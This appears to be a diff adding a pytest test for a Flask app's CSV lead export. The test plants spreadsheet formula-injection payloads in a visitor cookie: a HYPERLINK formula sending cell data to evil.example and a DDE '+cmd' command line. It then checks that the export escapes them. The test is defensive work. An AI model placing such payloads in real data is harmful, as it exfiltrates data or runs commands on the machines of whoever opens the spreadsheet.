@@ -2,7 +2,9 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from collections.abc import Callable
+from urllib.parse import quote
 
 import pytest
 from click.testing import CliRunner
@@ -56,9 +58,25 @@ def test_leads_show_and_retry(app_with_leads: Flask) -> None:
 def test_leads_export_csv(app_with_leads: Flask) -> None:
     output = _run(app_with_leads, "leads", "export", "--since", "2000-01-01")
     rows = list(csv.DictReader(io.StringIO(output)))
-    assert [r["phone"] for r in rows] == ["+38067*****33", "+38067*****34"]
+    assert [r["phone"] for r in rows] == ["'+38067*****33", "'+38067*****34"]  # as text
     assert rows[0]["utm_source"] == "google" and rows[0]["page_url"] == "https://s.ex/a"
     assert rows[0]["status"] == "placed" and rows[1]["status"] == "queued"
+
+
+def test_leads_export_never_hands_a_spreadsheet_a_formula(make_app: Callable[..., Flask]) -> None:
+    """Visitors write the UTM fields (here through the rngst2 cookie)."""
+    app = make_app()
+    client = app.test_client()
+    formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+    cookie = {"utmz": {"utm_source": formula, "utm_campaign": "+cmd|' /C calc'!A0"}}
+    client.set_cookie("rngst2", quote(json.dumps(cookie)))
+    assert client.post("/api/v1/callbacks", json={"phone": "0671112233"}).status_code == 202
+    output = _run(app, "leads", "export", "--since", "2000-01-01")
+    rows = list(csv.DictReader(io.StringIO(output)))
+    assert rows[0]["utm_source"] == "'" + formula
+    assert rows[0]["utm_campaign"] == "'+cmd|' /C calc'!A0"
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
 
 
 def test_db_upgrade_is_idempotent(app_with_leads: Flask) -> None:
